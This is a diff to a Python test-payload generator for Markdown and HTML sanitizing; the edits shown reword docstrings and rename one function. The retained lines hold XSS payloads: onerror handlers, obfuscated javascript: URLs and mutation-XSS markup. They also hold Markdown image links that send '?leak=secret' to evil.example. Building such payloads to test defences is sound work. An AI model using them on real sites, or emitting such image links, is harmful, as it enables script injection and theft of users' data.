@@ -1,6 +1,6 @@
-"""The rules that make the payloads: one function for each way in.
+"""The rules that make the payloads: one function for each kind of attack.
 
-Whatever would run sets `pwned`; whatever would leave asks evil.example. Both are looked for by the tests.
+A script that runs sets `pwned`; a request that leaves goes to evil.example. The tests look for both.
 """
 
 from __future__ import annotations
@@ -91,7 +91,7 @@ def scripts() -> Iterator[str]:
 
 
 def parsers_confused() -> Iterator[str]:
-    """What changes its meaning when it is parsed twice: foreign content, raw text, comments (mutation XSS)."""
+    """Markup that changes its meaning when parsed twice: foreign content, raw text, comments (mutation XSS)."""
     inner = f"<img src=x onerror={ACT}>"
     foreign, integration = (
         ("svg", "math"),
@@ -111,7 +111,7 @@ def parsers_confused() -> Iterator[str]:
 
 
 def loaders() -> Iterator[str]:
-    """Markup that asks another host for something, without any script."""
+    """Markup that makes a request to another host without any script."""
     for made in (
         "<img src={}/1.png>", "<img srcset='{}/1.png 1x'>", "<picture><source srcset={}/1.png><img></picture>",
         "<link rel=stylesheet href={}/x.css>", "<link rel=preload as=image href={}/x>", "<link rel=dns-prefetch href={}>",
@@ -130,7 +130,7 @@ def loaders() -> Iterator[str]:
 
 
 def addresses() -> Iterator[str]:
-    """Links in Markdown whose address acts, leads into this site, or hides where it leads."""
+    """Links in Markdown whose address runs script, points into this site, or hides its destination."""
     schemes = (
         f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f"javascript:/*--></title>*/{ACT}", f"javascript://%0a{ACT}",
         f"javascript:\u2028{ACT}", f"java\tscript:{ACT}", f"java&#9;script:{ACT}", f"java&NewLine;script:{ACT}",
@@ -161,7 +161,7 @@ def addresses() -> Iterator[str]:
 
 
 def pictures() -> Iterator[str]:
-    """Ways of Markdown to send away what the answer knows."""
+    """Pictures in Markdown that would send data of the answer to another host."""
     yield from (
         f"![]({EVIL}/?leak=secret)", f"![x]({EVIL}/?leak=secret 'title')", f"![x][p]\n\n[p]: {EVIL}/?leak=1",
         "![x](//evil.example/p.png)", f"![x](<{EVIL}/p q.png>)", f"![x]({EVIL}/p.svg#a)", f"![x](blob:{EVIL}/1)",
@@ -190,8 +190,8 @@ def fences() -> Iterator[str]:
     )  # fmt: skip
 
 
-def places() -> Iterator[str]:
-    """One element in every place that Markdown has, and words that break out of where they are put."""
+def constructs() -> Iterator[str]:
+    """An element in every construct of Markdown, and texts that break out of their context."""
     mark = f"<b onclick={ACT}>x</b>"
     for place in (
         "# {}", "> {}", "- {}", "1. {}", "- [x] {}", "| {} |\n|---|\n| {} |", "**{}**", "*{}*", "~~{}~~", "[{}](x)", "[^1]: {}\n\n[^1]",
@@ -232,7 +232,7 @@ def places() -> Iterator[str]:
 
 
 RULES: tuple[Callable[[], Iterator[str]], ...] = (
-    elements_that_act, scripts, parsers_confused, loaders, addresses, pictures, fences, places,
+    elements_that_act, scripts, parsers_confused, loaders, addresses, pictures, fences, constructs,
 )  # fmt: skip
 
 
